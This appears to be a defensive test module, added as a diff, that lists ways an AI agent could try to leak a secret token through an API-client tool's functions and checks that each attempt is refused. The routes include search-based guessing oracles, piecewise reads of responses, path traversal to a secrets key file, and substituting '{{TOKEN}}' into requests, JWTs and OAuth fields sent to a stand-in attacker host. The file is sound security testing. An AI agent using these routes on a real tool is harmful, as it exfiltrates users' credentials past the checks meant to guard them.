@@ -1,0 +1,357 @@
+import type { Lab, Outcome } from './lab.js';
+import { token } from './lab.js';
+
+/** One way in which an agent may try to get a secret out, and what it comes to. */
+export type Attack = readonly [
+  topic: string,
+  way: string,
+  outcome: RegExp,
+  attempt: (lab: Lab) => Promise<unknown>,
+];
+
+const refused = /^SECRET_HOST_REFUSED$/;
+const away = (lab: Lab, path = ''): string => `http://localhost:${lab.evil}${path}`;
+const home = (lab: Lab, path = ''): string => `http://127.0.0.1:${lab.home}${path}`;
+
+/** Of the value, and what is none. */
+const [right, wrong] = [token.slice(0, 5), 'Qx7Jd'] as const;
+
+/** Whether a guess that is right is answered as one that is not: a difference would tell one character after another. */
+const sameFor = async (ask: (guess: string) => Promise<unknown>): Promise<string> => {
+  const answers = [right, wrong].map(async (guess) =>
+    JSON.stringify(await ask(guess))
+      .replaceAll(guess, 'guess')
+      .replaceAll(/exec_\w+|"(?:startedAt|updatedAt|time|durationMs|\w+Ms|revision)":[^,}]+/g, ''),
+  );
+  const [one, other] = [await answers[0], await answers[1]];
+  return one === other ? 'the same' : `${one}\n${other}`;
+};
+
+/** A request in which a person has written the value itself. */
+const written = async (lab: Lab): Promise<string> => {
+  const headers = [{ name: 'X', value: `Bearer ${token}`, enabled: true }];
+  const fields = { url: home(lab), headers, script: `const token = '${token}';` };
+  const name = `Written ${Math.random()}`;
+  return (await lab.person(lab.application.rest.create({ name, ...fields }))).id;
+};
+
+/** An execution whose response has the value. */
+const answered = async (lab: Lab, more: object = {}) =>
+  (await lab.execute({ url: home(lab, '/{{TOKEN}}') }, { ...more })) as {
+    readonly executionId: string;
+    readonly request: { readonly id: string };
+    readonly selected?: unknown;
+  };
+
+const codeOf = (result: unknown): Outcome => {
+  const text = JSON.stringify(result);
+  return /\b(SECRET_HOST_REFUSED)\b/.exec(text)?.[1] ?? text;
+};
+
+const signedIn = async (lab: Lab, auth: object): Promise<Outcome> => {
+  const whole = { type: 'oauth2', clientId: 'c', accessTokenUrl: away(lab, '/t'), ...auth };
+  const { id } = await lab.call('rest_create', { name: `OA${Math.random()}`, url: home(lab), auth: whole });
+  return codeOf(await lab.call('tokens_begin', { id }));
+};
+
+const jwt = (lab: Lab, more: object) =>
+  lab.send({
+    url: away(lab),
+    auth: { type: 'jwt', algorithm: 'HS256', secret: 'k'.repeat(32), claims: '{}', ...more },
+  });
+
+const connecting = async (lab: Lab, connections: object): Promise<Outcome> => {
+  try {
+    const changed = await lab.call('folders_update', { id: '', connections });
+    return 'failed' in changed
+      ? String(changed.failed)
+      : await lab.send({ url: `https://localhost:${lab.evil}/` });
+  } finally {
+    await lab.call('folders_update', { id: '', connections: { clientCertificates: [], ca: [] } });
+  }
+};
+
+const key = '../data/secrets.key';
+
+const openApi = (reference: string) =>
+  JSON.stringify({
+    openapi: '3.0.0',
+    info: { title: 't', version: '1' },
+    paths: { '/a': { get: { parameters: [{ $ref: reference }], responses: {} } } },
+  });
+
+/** Attacks that combine tools, or ask them questions that the value answers. */
+export const moreAttacks: readonly Attack[] = [
+  [
+    'questions',
+    'a search of requests for its beginning',
+    /^the same$/,
+    async (lab) => {
+      await written(lab);
+      return sameFor((guess) => lab.call('rest_list', { search: guess }));
+    },
+  ],
+  [
+    'questions',
+    'a search of executions for its beginning',
+    /^the same$/,
+    async (lab) => {
+      await answered(lab);
+      return sameFor((guess) => lab.call('executions_list', { search: guess }));
+    },
+  ],
+  [
+    'questions',
+    'an edit that replaces its beginning in a script',
+    /^the same$/,
+    async (lab) => {
+      const id = await written(lab);
+      return sameFor((guess) => lab.call('rest_update_script', { id, edits: [{ old: guess, new: guess }] }));
+    },
+  ],
+  [
+    'questions',
+    'the line that resembles an edit',
+    /^the same$/,
+    async (lab) => {
+      const id = await written(lab);
+      const edits = (guess: string) => [{ old: `const token = '${guess}`, new: '' }];
+      return sameFor((guess) => lab.call('rest_update_script', { id, edits: edits(guess) }));
+    },
+  ],
+  [
+    'questions',
+    'a filter over the response',
+    /^the same$/,
+    (lab) =>
+      sameFor(async (guess) => (await answered(lab, { select: `$[?search(@, '${guess}')]` })).selected),
+  ],
+  [
+    'questions',
+    'a comparison with the response',
+    /^the same$/,
+    (lab) => sameFor(async (guess) => (await answered(lab, { select: `$[?@ > '/${guess}']` })).selected),
+  ],
+  [
+    'questions',
+    'a filter over a stored response',
+    /^the same$/,
+    async (lab) => {
+      const { executionId: id } = await answered(lab);
+      return sameFor((guess) => lab.call('executions_get', { id, select: `$[?search(@, '${guess}')]` }));
+    },
+  ],
+  [
+    'questions',
+    'a comparison of two responses',
+    /‹secret:TOKEN›/,
+    async (lab) => {
+      const { executionId: a } = await answered(lab);
+      const { executionId: b } = (await lab.execute({ url: home(lab, `/${right}`) })) as {
+        executionId: string;
+      };
+      return JSON.stringify(await lab.call('executions_compare', { a, b }));
+    },
+  ],
+  [
+    'pieces',
+    'a response that is cut at each of its characters',
+    /^done$/,
+    async (lab) => {
+      const { request } = await answered(lab);
+      for (let maxBodyBytes = 1; maxBodyBytes < 60; maxBodyBytes += 1)
+        await lab.call('rest_execute', { id: request.id, maxBodyBytes });
+      return 'done';
+    },
+  ],
+  [
+    'pieces',
+    'a stored response in parts of ten bytes',
+    /^done$/,
+    async (lab) => {
+      const { executionId: id } = await answered(lab);
+      for (let offset = 0; offset < 60; offset += 3)
+        await lab.call('executions_get', { id, offset, length: 10 });
+      return 'done';
+    },
+  ],
+  [
+    'pieces',
+    'an export in parts',
+    /^done$/,
+    async (lab) => {
+      await written(lab);
+      for (const format of ['curl', 'har'])
+        for (let offset = 0; offset < 400; offset += 90)
+          await lab.call('exports_render', { format, offset, maxChars: 100 });
+      return 'done';
+    },
+  ],
+  [
+    'files',
+    'a saved response that another request sends',
+    /^401$/,
+    async (lab) => {
+      await answered(lab, { saveTo: 'saved.json' });
+      return lab.send({ method: 'POST', url: away(lab), body: { type: 'binary', file: 'saved.json' } });
+    },
+  ],
+  [
+    'files',
+    'a saved response that is imported',
+    /cannot be imported|INVALID|IMPORT/,
+    async (lab) => {
+      await answered(lab, { saveTo: 'saved.json' });
+      return JSON.stringify(await lab.call('imports_apply', { file: 'saved.json' }));
+    },
+  ],
+  [
+    'files',
+    'an import of the key of the database',
+    /leads out of the workspace/,
+    async (lab) => JSON.stringify(await lab.call('imports_apply', { file: key })),
+  ],
+  [
+    'files',
+    'a body that is the key of the database',
+    /^FILE_/,
+    (lab) => lab.send({ method: 'POST', url: away(lab), body: { type: 'binary', file: key } }),
+  ],
+  [
+    'files',
+    'a reference in an OpenAPI document',
+    /leads to another document/,
+    async (lab) =>
+      JSON.stringify(await lab.call('imports_apply', { text: openApi(`${key}#/a`), dryRun: true })),
+  ],
+  [
+    'files',
+    'a client certificate',
+    /^TLS_|FILE/,
+    (lab) =>
+      connecting(lab, { clientCertificates: [{ type: 'pem', domain: 'localhost', certificate: key, key }] }),
+  ],
+  ['files', 'a CA file', /^TLS_|FILE/, (lab) => connecting(lab, { ca: [key] })],
+  [
+    'names',
+    'an environment that extends the one with the secret',
+    refused,
+    async (lab) => {
+      const name = `Below ${Math.random()}`;
+      await lab.call('environments_create', { name, extends: 'Dev' });
+      return lab.send({ url: away(lab, '/{{TOKEN}}') }, { environment: name });
+    },
+  ],
+  [
+    'names',
+    'a copy of the environment with another name',
+    refused,
+    async (lab) => {
+      const [copy, name] = [`Copy ${Math.random()}`, `Copied ${Math.random()}`];
+      await lab.call('environments_create', { name: copy, copyOf: 'Dev' });
+      await lab.call('environments_update', { id: copy, name });
+      return lab.send({ url: away(lab, '/{{TOKEN}}') }, { environment: name });
+    },
+  ],
+  [
+    'names',
+    'a variable within a variable',
+    refused,
+    async (lab) => {
+      await lab.call('environments_update', {
+        id: 'Dev',
+        variables: { inner: '{{TOKEN}}', outer: '{{inner}}' },
+      });
+      return lab.send({ url: away(lab, '/{{outer}}') });
+    },
+  ],
+  [
+    'names',
+    'a variable of the request',
+    refused,
+    (lab) => lab.send({ url: away(lab, '/{{mine}}'), requestVariables: { mine: '{{TOKEN}}' } }),
+  ],
+  [
+    'names',
+    'the origins of a value that a variable of the same name hides',
+    /secret:TOKEN/,
+    async (lab) =>
+      JSON.stringify(
+        await lab.execute({ url: away(lab, '/{{TOKEN}}') }, { dryRun: true, variables: { TOKEN: 'x' } }),
+      ),
+  ],
+  [
+    'names',
+    'a cookie with the name of the secret as its value',
+    /^401$/,
+    async (lab) => {
+      await lab.call('cookies_set', { name: 'c', value: '{{TOKEN}}', domain: 'localhost' });
+      return lab.send({ url: away(lab) });
+    },
+  ],
+  ['tokens', 'a claim of a JSON Web Token', refused, (lab) => jwt(lab, { claims: '{"a":"{{TOKEN}}"}' })],
+  ['tokens', 'the header of a JSON Web Token', refused, (lab) => jwt(lab, { header: '{"kid":"{{TOKEN}}"}' })],
+  [
+    'tokens',
+    'the page of an authorization server that a person opens',
+    refused,
+    (lab) =>
+      signedIn(lab, {
+        grant: 'authorization_code',
+        authorizationUrl: away(lab, '/a'),
+        clientId: '{{TOKEN}}',
+      }),
+  ],
+  [
+    'tokens',
+    'a parameter of that page',
+    refused,
+    (lab) =>
+      signedIn(lab, { grant: 'authorization_code', authorizationUrl: away(lab, '/a'), scope: '{{TOKEN}}' }),
+  ],
+  [
+    'tokens',
+    'the client of a device code',
+    refused,
+    (lab) =>
+      signedIn(lab, { grant: 'device_code', deviceAuthorizationUrl: away(lab, '/d'), clientId: '{{TOKEN}}' }),
+  ],
+  [
+    'tokens',
+    'the user of a password grant',
+    refused,
+    (lab) => signedIn(lab, { grant: 'password', username: '{{TOKEN}}', password: 'p' }),
+  ],
+  [
+    'tokens',
+    'the scope of client credentials',
+    refused,
+    (lab) => signedIn(lab, { grant: 'client_credentials', scope: '{{TOKEN}}' }),
+  ],
+  [
+    'repetitions',
+    'a run with rows that tries again',
+    refused,
+    async (lab) => {
+      const { id } = await lab.call('rest_create', { name: `Q${Math.random()}`, url: '{{to}}/{{TOKEN}}' });
+      return codeOf(
+        await lab.call('runs_execute', { ids: [id], rows: [{ to: away(lab) }], retry: 2, report: 'full' }),
+      );
+    },
+  ],
+  [
+    'repetitions',
+    'many requests with a variable of the call',
+    refused,
+    async (lab) => {
+      const { id } = await lab.call('rest_create', { name: `Q${Math.random()}`, url: '{{to}}/{{TOKEN}}' });
+      return codeOf(await lab.call('rest_execute_many', { ids: [id], variables: { to: away(lab) } }));
+    },
+  ],
+  [
+    'repetitions',
+    'the URL of an introspection',
+    /may only be sent to/,
+    async (lab) => JSON.stringify(await lab.call('graphql_introspect', { url: away(lab, '/{{TOKEN}}') })),
+  ],
+];
